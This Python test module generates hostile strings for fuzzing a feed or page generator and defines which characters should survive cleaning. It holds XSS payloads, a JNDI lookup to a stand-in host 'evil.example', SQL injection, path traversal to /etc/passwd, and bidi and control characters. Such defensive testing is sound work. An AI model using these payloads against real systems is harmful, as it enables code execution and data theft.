"""Text that is written to break feeds, pages, parsers, terminals or logs, and what may remain of it."""

from __future__ import annotations

import random

from hypothesis import strategies as st

MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "</summary></entry><entry>",
    "]]>",
    "<![CDATA[",
    "]]]]><![CDATA[>",
    "<!--",
    "--!>",
    "<!DOCTYPE a [<!ENTITY b 'c'>]>",
    "&b;",
    "<?xml version='1.1'?>",
    "<?php echo 1 ?>",
    "&lt;script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;script&#62;",
    "&#x1b;",
    "&#0;",
    "&#xD800;",
    "&#xFFFE;",
    "&nbsp;",
    "&unknown;",
    "&",
    "<",
    ">",
    "</p>",
    "<p>",
    "<math><mtext></p><style>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp>",
    "<plaintext>",
    "<textarea>",
    "<title>",
]
CODE = [
    r'"}],"x":[{"',
    r"\u003cscript\u003e",
    r"\ud800",
    r"\"",
    r"\\",
    r"{{7*7}}",
    r"{% endblock %}",
    r"${jndi:ldap://evil.example/a}",
    r"%s%n",
    r"'; DROP TABLE entries;--",
    r"../../etc/passwd",
    r"__proto__",
    r"javascript:alert(1)",
    r"data:text/html,<b>x",
    r"=cmd",
    r"/C calc",
]
CHARACTERS = [
    "\0",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x1f",
    "\x7f",
    "\x80",
    "\x85",
    "\x92",
    "\x9f",
    "\ufffe",
    "\uffff",
    "\ufdd0",
    "\U0001fffe",
    "\ud800",
    "\udfff",
    "\ufeff",
    "\ufffd",
    "\u202e",
    "\u202a",
    "\u2066",
    "\u2069",
    "\u200f",
    "\u200d",
    "\u00ad",
    "\u2028",
    "\u2029",
    "\u3000",
    "\r",
    "\n",
    "\r\n",
    "\n\n",
    "\t",
    "\u0301" * 30,
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "ﷺ",
    "שלום",
    "مرحبا",
    "नमस्ते",
    "ﬁ",
    "İ",
    "ǆ",
    "\U000e0041",
    "\U0010ffff",
    "\ue000",
    "𝕳",
    "a" * 400,
]
WORDS = [
    "harbour",
    "mayor",
    "12 August 2021",
    "opens",
    "the",
    "5",
    "New rules",
    "©",
    "Events",
    "—",
    "“quoted”",
    "it's",
    "50 %",
    "A & B",
    "1 < 2",
    "C:\\",
    "#1",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "/a",
    "?q=1",
    'http://news.example/"><script>alert(1)</script>',
    "https://news.example/a b",
    "http://[::1",
    "https://ü.example/ß?ä#ö",
    "http://news.example/%zz",
    "http://news.example/\ud800",
    "https://news.example/" + "a" * 3000,
    "HTTP://NEWS.EXAMPLE/",
    "http:javascript:alert(1)",
    "https://news.example/&amp;&lt;'\"",
    "http://news.example/\0\x1b\n",
]
_BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def text(chance: random.Random) -> str:
    """Return a few hostile pieces between ordinary words."""
    kinds = chance.choices((MARKUP, CODE, CHARACTERS, WORDS), (3, 2, 4, 3), k=chance.randrange(1, 9))
    return chance.choice(("", " ")).join(chance.choice(kind) for kind in kinds)


def link(chance: random.Random) -> str:
    return chance.choice(LINKS) if chance.random() < 0.8 else "https://news.example/" + text(chance)


texts = st.randoms(use_true_random=False).map(text)


def cleaned(text: str) -> str:
    """Return a line as the documentation promises it: legal characters, no bidi controls, single spaces."""
    return " ".join("".join(filter(_remains, map(_restored, text))).split())


def _restored(character: str) -> str:
    """Restore Windows-1252 punctuation that was decoded as Latin-1, except the line break NEL."""
    if "\x80" <= character <= "\x9f" and character != "\x85":
        return character.encode("latin-1").decode("cp1252", "ignore")
    return character


def _remains(character: str) -> bool:
    """Whether a character is kept: XML 1.0 §2.2 without discouraged characters and bidi controls."""
    if not character:
        return False
    code = ord(character)
    legal = code in (0x9, 0xA, 0xD, 0x85) or 0x20 <= code <= 0x7E or 0xA0 <= code <= 0xD7FF or code >= 0xE000
    noncharacter = 0xFDD0 <= code <= 0xFDEF or code in (0xFFFE, 0xFFFF)
    return legal and not noncharacter and character not in _BIDI
